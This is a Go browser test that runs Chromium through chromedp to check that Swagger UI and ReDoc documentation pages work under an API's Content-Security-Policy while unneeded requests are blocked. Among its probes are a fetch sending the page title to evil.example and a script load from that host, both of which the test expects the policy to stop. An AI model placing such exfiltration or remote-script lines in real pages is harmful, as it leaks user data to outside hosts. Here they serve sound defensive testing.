//go:build real

package interop

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/fetch"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// The pages of FastAPI's documentation load their program from a CDN. Tests do
// not: these stand-ins are loaded in its place, from the same addresses, and
// use of the browser what the real programs use. What a policy forbids the
// browser never asks for, so a stand-in that runs was allowed to.
const (
	// Swagger UI adds styles and pictures to the page and fetches the
	// description. The request to another host must be stopped.
	swaggerJS = `
window.SwaggerUIBundle = function (o) {
  window.ready = (async function () {
    const style = document.createElement('style');
    style.textContent = '#swagger-ui { outline: 3px solid rgb(1, 2, 3) }';
    document.head.append(style);
    const box = document.querySelector(o.dom_id);
    box.setAttribute('style', 'color: rgb(4, 5, 6)');
    const picture = new Image();
    picture.src = 'data:image/svg+xml;utf8,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
    await picture.decode();
    const description = await (await fetch(o.url)).json();
    const answer = await (await fetch('/api/orders/1', {headers: {Authorization: 'Bearer x'}})).json();
    const s = getComputedStyle(box);
    return {title: description.info.title, paths: Object.keys(description.paths).length, answer: answer.item,
      styles: [s.outlineColor, s.color, getComputedStyle(document.body).backgroundColor], popup: o.oauth2RedirectUrl};
  })();
};
SwaggerUIBundle.presets = {apis: 1};
SwaggerUIBundle.SwaggerUIStandalonePreset = 2;
`
	// ReDoc does so too, and searches in a worker of its own making.
	redocJS = `
window.ready = (async function () {
  const at = document.querySelector('redoc').getAttribute('spec-url');
  const description = await (await fetch(at)).json();
  const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(6 * 7)'], {type: 'text/javascript'})));
  const found = await new Promise(function (ok, bad) { worker.onmessage = function (e) { ok(e.data) }; worker.onerror = bad; });
  return {title: description.info.title, paths: Object.keys(description.paths).length, answer: String(found),
    styles: [getComputedStyle(document.body).backgroundColor]};
})();
`
	bodyCSS = "body { background-color: rgb(7, 8, 9) }"
)

// A browser shows pages and remembers what its policy forbade them.
type browser struct {
	ctx context.Context

	mu    sync.Mutex
	asked []string // requests to other hosts
}

// open starts Debian's Chromium, which scripts/chromium.sh installs.
func open(t *testing.T, own string) *browser {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatalf("%v: run scripts/test", err)
	}
	options := append(slices.Clone(chromedp.DefaultExecAllocatorOptions[:]), chromedp.ExecPath(path), chromedp.UserDataDir(t.TempDir()))
	if os.Getuid() == 0 {
		options = append(options, chromedp.NoSandbox) // Chromium refuses root otherwise
	}
	ctx, cancel := chromedp.NewExecAllocator(within(t, 90*time.Second), options...)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewContext(ctx)
	t.Cleanup(func() {
		_ = chromedp.Cancel(ctx) // waits until the browser has ended
		cancel()
	})
	b := &browser{ctx: ctx}
	paused := chromedp.Events(ctx, fetch.RequestPaused)
	go func() {
		for ev, err := range paused {
			if err != nil {
				return
			}
			b.answer(ev, own)
		}
	}()
	if _, err := chromedp.Call(ctx, fetch.Enable, fetch.EnableParams{}); err != nil {
		t.Fatal(err)
	}
	const watch = `window.violations = []; document.addEventListener('securitypolicyviolation', function (e) {
  window.violations.push(e.effectiveDirective + ' ' + e.blockedURI) })`
	if _, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: watch}); err != nil {
		t.Fatal(err)
	}
	return b
}

// answer lets requests to the API pass and answers those to other hosts.
func (b *browser) answer(ev fetch.EventRequestPaused, own string) {
	u, err := url.Parse(ev.Request.URL)
	if err != nil || u.Host == own || u.Host == "" {
		_, _ = chromedp.Call(b.ctx, fetch.ContinueRequest, fetch.ContinueRequestParams{RequestID: ev.RequestID})
		return
	}
	b.mu.Lock()
	b.asked = append(b.asked, u.Host)
	b.mu.Unlock()
	body, typ := "", "text/plain"
	switch {
	case strings.Contains(u.Path, "swagger-ui-bundle.js"):
		body, typ = swaggerJS, "text/javascript"
	case strings.Contains(u.Path, "redoc.standalone.js"):
		body, typ = redocJS, "text/javascript"
	case strings.HasSuffix(u.Path, ".css") || u.Host == "fonts.googleapis.com":
		body, typ = bodyCSS, "text/css"
	case strings.HasSuffix(u.Path, ".png"):
		typ = "image/png"
	}
	_, _ = chromedp.Call(b.ctx, fetch.FulfillRequest, fetch.FulfillRequestParams{
		RequestID: ev.RequestID, ResponseCode: 200, Body: []byte(body),
		ResponseHeaders: []*fetch.HeaderEntry{{Name: "Content-Type", Value: typ}},
	})
}

// shown is what a stand-in has found the page to be able to do.
type shown struct {
	Title  string   `json:"title"`
	Paths  int      `json:"paths"`
	Answer string   `json:"answer"`
	Styles []string `json:"styles"`
	Popup  string   `json:"popup"`
}

// show opens a page, waits for its program and returns what that has found
// and what the policy has forbidden.
func (b *browser) show(t *testing.T, address string) (s shown, violations []string, err error) {
	t.Helper()
	if err := chromedp.Do(b.ctx, chromedp.Navigate(address)); err != nil {
		t.Fatal(err)
	}
	s, err = chromedp.Run(b.ctx, chromedp.Evaluate[shown](`window.ready`, chromedp.EvalAwaitPromise))
	if err != nil {
		return s, eval[[]string](t, b, `window.violations`), err
	}
	return s, eval[[]string](t, b, `new Promise(function (ok) { setTimeout(function () { ok(window.violations) }, 200) })`), nil
}

// eval evaluates an expression in the page as if the user had asked for it.
func eval[T any](t *testing.T, b *browser, expression string) T {
	t.Helper()
	yes := true
	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[T](expression, chromedp.EvalAwaitPromise, func(p *runtime.EvaluateParams) { p.UserGesture = &yes }))
	if err != nil {
		t.Fatalf("%s: %v", expression, err)
	}
	return v
}

// TestDocsInABrowser: where the policy opens them, the documentation's pages
// work under the Content-Security-Policy that they get.
func TestDocsInABrowser(t *testing.T) {
	addr, _ := exampleUp(t, exampleWith(t, "apidocs:\n  open: true\n"))
	b := open(t, addr)
	res, err := http.Get("http://" + addr + "/openapi.json")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var description struct{ Paths map[string]json.RawMessage }
	if err := json.NewDecoder(res.Body).Decode(&description); err != nil || len(description.Paths) < 15 {
		t.Fatalf("%d paths are described, %v", len(description.Paths), err)
	}

	for path, want := range map[string]shown{
		"/docs":  {Title: "Orders", Answer: "Crossbow", Styles: []string{"rgb(1, 2, 3)", "rgb(4, 5, 6)", "rgb(7, 8, 9)"}, Popup: "http://" + addr + "/docs/oauth2-redirect"},
		"/redoc": {Title: "Orders", Answer: "42", Styles: []string{"rgb(7, 8, 9)"}},
	} {
		t.Run(path, func(t *testing.T) {
			want.Paths = len(description.Paths)
			got, violations, err := b.show(t, "http://"+addr+path)
			if err != nil {
				t.Fatalf("the page's program does not run: %v; the policy forbids %q", err, violations)
			}
			if len(violations) > 0 {
				t.Errorf("the policy forbids what the page needs: %q", violations)
			}
			if got.Title != want.Title || got.Paths != want.Paths || got.Answer != want.Answer || got.Popup != want.Popup || !slices.Equal(got.Styles, want.Styles) {
				t.Errorf("the page shows %+v, want %+v", got, want)
			}
			// The policy is a policy: what the page does not need is stopped.
			for do, forbidden := range map[string]string{
				`fetch('https://evil.example/?' + document.title).then(function () { return 'sent' }, function () { return 'stopped' })`:                                                                                                    "connect-src https://evil.example/",
				`new Promise(function (ok) { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; s.onload = function () { ok('sent') }; s.onerror = function () { ok('stopped') }; document.head.append(s) })`: "script-src-elem https://evil.example/x.js",
			} {
				if got := eval[string](t, b, do); got != "stopped" {
					t.Errorf("%s: %s", do, got)
				}
				now := eval[[]string](t, b, `window.violations`)
				if !slices.ContainsFunc(now, func(v string) bool { return strings.HasPrefix(v, forbidden) }) {
					t.Errorf("%q is not among what is forbidden: %q", forbidden, now)
				}
			}
		})
	}

	// The authorization code finds its way from the popup to its opener.
	t.Run("/docs/oauth2-redirect", func(t *testing.T) {
		if _, _, err := b.show(t, "http://"+addr+"/docs"); err != nil {
			t.Fatal(err)
		}
		code := eval[string](t, b, `new Promise(function (ok) {
  window.swaggerUIRedirectOauth2 = {
    state: 'xyz', redirectUrl: '/', auth: {name: 'a', schema: new Map([['flow', 'authorizationCode']])},
    callback: function (r) { ok(r.auth.code) }, errCb: function (e) { ok('error: ' + e.message) },
  };
  window.open('/docs/oauth2-redirect?code=the%20code&state=xyz');
  setTimeout(function () { ok('nothing came') }, 10000);
})`)
		if code != "the code" {
			t.Errorf("the opener gets %q", code)
		}
	})

	b.mu.Lock()
	defer b.mu.Unlock()
	for _, host := range b.asked {
		if !slices.Contains([]string{"cdn.jsdelivr.net", "fastapi.tiangolo.com", "fonts.googleapis.com"}, host) {
			t.Errorf("the browser asked %s", host)
		}
	}

	// Under the policy of the rest of the API the same page does not work, so
	// the test above can tell.
	t.Run("without the profile", func(t *testing.T) {
		addr, _ := exampleUp(t, exampleWith(t, "apidocs:\n  open: true\nheaders:\n  routes:\n    - path: /docs\n      profile: api\n"))
		b := open(t, addr)
		if s, _, err := b.show(t, "http://"+addr+"/docs"); err == nil {
			t.Errorf("the page works: %+v", s)
		}
		b.mu.Lock()
		defer b.mu.Unlock()
		if slices.Contains(b.asked, "cdn.jsdelivr.net") {
			t.Errorf("the browser asked %q", b.asked)
		}
	})
}
